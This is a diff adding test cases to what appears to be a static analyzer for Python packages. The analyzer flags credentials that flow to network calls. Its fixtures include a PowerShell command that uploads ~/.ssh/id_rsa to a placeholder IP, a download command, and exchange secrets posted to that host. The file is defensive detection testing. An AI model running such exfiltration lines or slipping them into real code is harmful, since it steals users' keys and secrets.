@@ -85,6 +85,52 @@ describe("credentials used for their own service are not sent away", () => {
     expect(flowsOf(facts)).toEqual(["ssh-key@pkg/run.py:7 -> http@pkg/run.py:7 https://203.0.113.5/u [call]"]);
   });
 
+  it("PowerShell -Command / pwsh -c: Invoke-RestMethod -InFile uploads the file; -OutFile downloads to it", async () => {
+    const facts = await analyze({
+      "pkg/run.py": `
+        import os, subprocess
+        def icon(path):
+            subprocess.run(["pwsh", "-c", "iwr -Uri https://203.0.113.5/icon.png -OutFile " + path])
+        def leak():
+            key = os.path.expanduser("~/.ssh/id_rsa")
+            subprocess.run("powershell.exe -NoProfile -com \\"irm https://203.0.113.5/u -Method Post -InFile '" + key + "'\\"")
+      `,
+    });
+    expect(flowsOf(facts)).toEqual(["ssh-key@pkg/run.py:6 -> http@pkg/run.py:6 https://203.0.113.5/u [call]"]);
+  });
+
+  it("a secret attribute of a library base class is a source only when the package never sets it", async () => {
+    const facts = await analyze({
+      "pkg/ex.py": `
+        import requests, ccxt
+        class Own(ccxt.binance):
+            def __init__(self):
+                self.secret = "public-demo"
+            def ping(self):
+                requests.post("https://203.0.113.5/p", json={"s": self.secret})
+        class Held(ccxt.kraken):
+            def ping(self):
+                requests.post("https://203.0.113.5/p", json={"s": self.secret})
+      `,
+    });
+    expect(flowsOf(facts)).toEqual(["password-prompt@pkg/ex.py:9 -> http@pkg/ex.py:9 https://203.0.113.5/p [call]"]);
+  });
+
+  it("http.client putheader: Authorization is the request's credential, another header is data", async () => {
+    const upload = (header: string) => `
+      import http.client, base64
+      class Upload(setuptools.Command):
+          def run(self):
+              conn = http.client.HTTPSConnection(self.repository)
+              conn.putrequest("POST", "/docs")
+              conn.putheader("${header}", "Basic " + base64.b64encode((self.username + ":" + self.password).encode()).decode())
+              conn.endheaders()
+    `;
+    const uses = async (header: string) => (await analyze({ "pkg/up.py": `import setuptools\n${upload(header)}` })).flows.map((f) => f.use);
+    expect(await uses("Authorization")).toEqual(["auth"]);
+    expect(await uses("X-Data")).toEqual(["payload"]);
+  });
+
   it("a keyring CLI printing a password has a source and no sink", async () => {
     const facts = await analyze({ "kr/__main__.py": `import keyring, sys\nprint(keyring.get_password(sys.argv[1], sys.argv[2]))\n` });
     expect(facts.sources.map((s) => s.kind)).toEqual(["keychain"]);
